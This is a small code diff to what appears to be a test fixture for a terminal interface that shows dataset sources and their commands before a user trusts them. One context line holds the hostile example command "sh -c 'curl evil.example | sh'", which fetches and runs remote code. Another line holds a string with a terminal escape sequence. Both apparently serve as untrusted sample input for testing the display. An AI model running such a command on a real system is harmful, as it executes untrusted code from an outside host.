@@ -24,7 +24,7 @@ from odf_engine.coordinator.protocol import (
     WorkerStatus,
 )
 from odf_engine.errors import InvalidManifest, OdfError
-from odf_tui.state import BlockLine, DatasetRow, Detail, Section
+from odf_tui.state import BlockLine, Change, DatasetRow, Detail, Execution, Section, Standing
 
 REMARKS = ["fine", "foggy, wind from the west all day and the night before", "a\tb\x1b[31m", None]
 SYSTEM = ("offset", "op", "system_time", "event_time")
@@ -237,7 +237,7 @@ class FakeSource:
             Execution("pipes the data through", "sh -c 'curl evil.example | sh'", "f1620" + "ab" * 32),
             *(Execution("runs the query", f"SELECT {number}", "f1620" + "cd" * 32) for number in range(20)),
         )
-        return Standing("a stranger", runs)
+        return Standing("https://elsewhere.example/tides.yaml", runs)
 
     def trust(self, dataset: str, shown: Standing) -> None:
         """Notes it."""
